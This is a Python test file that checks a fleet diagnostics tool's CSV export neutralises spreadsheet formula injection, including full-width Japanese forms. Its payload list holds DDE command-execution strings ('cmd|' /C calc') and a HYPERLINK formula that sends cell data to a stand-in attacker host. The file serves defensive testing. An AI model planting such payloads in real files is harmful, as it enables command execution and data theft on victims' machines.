"""The fleet CSV cannot run formulas in a spreadsheet, whatever a host (or results file) says.

The OWASP CSV-injection list plus what Japanese Excel and LibreOffice also evaluate: a cell that
starts with = + - @ (also after whitespace, tab, CR or LF, and in their full-width forms typed with
a Japanese IME), DDE payloads, and a carriage return that would start a new row.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from pathlib import Path

import pytest
from support.fleet_results import CAPTURES, record

from msdiag.capture.models import HostState
from msdiag.fleet.report import build_fleet_report
from msdiag.formats.catalog import render_fleet

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u3000=1+1",  # ideographic space
    "\u00a0=1+1",
    "\u200b=1+1",  # zero-width space
    "\x00=1+1",
    "＝1+1",  # full-width equals sign, as a Japanese IME types it
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "﹦1+1",  # small equals sign
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "ok\r=1+1",  # a new row starting =1+1 if CR ends a line
    "ok\n-2+3",
]
FORMULA_START = re.compile(r"^[=+\-@]")


def looks_like_formula(cell: str) -> bool:
    stripped = cell.lstrip()
    return bool(stripped) and bool(FORMULA_START.match(unicodedata.normalize("NFKC", stripped[0])))


@pytest.fixture(scope="module")
def csv_text(tmp_path_factory: pytest.TempPathFactory) -> str:
    folder: Path = tmp_path_factory.mktemp("csv")
    path = folder / "fleet.jsonl"
    lines = [
        record(payload, CAPTURES["healthy-ja-jp"], state=HostState.WINRM_FAULT, detail=payload)
        for payload in PAYLOADS
    ]
    path.write_text("".join(lines), encoding="utf-8")
    return render_fleet(build_fleet_report(path), "csv", "en")


def test_no_cell_can_be_evaluated(csv_text: str) -> None:
    rows = list(csv.reader(io.StringIO(csv_text, newline="")))
    assert len(rows) == 1 + len(PAYLOADS)
    for row in rows[1:]:
        for cell in row:
            assert not looks_like_formula(cell), row
            assert "\r" not in cell and "\n" not in cell


def test_no_line_starts_a_formula_whatever_ends_a_line(csv_text: str) -> None:
    # a reader that splits rows on CR, LF or CRLF (Excel, LibreOffice, naive scripts)
    for line in re.split(r"\r\n|\r|\n", csv_text):
        assert not looks_like_formula(line.lstrip('"')), line


def test_the_host_text_is_kept_as_text(csv_text: str) -> None:
    rows = list(csv.DictReader(io.StringIO(csv_text, newline="")))
    details = [row["detail"] for row in rows]
    assert "'=cmd|' /C calc'!A0" in details
    assert "'＝1+1" in details
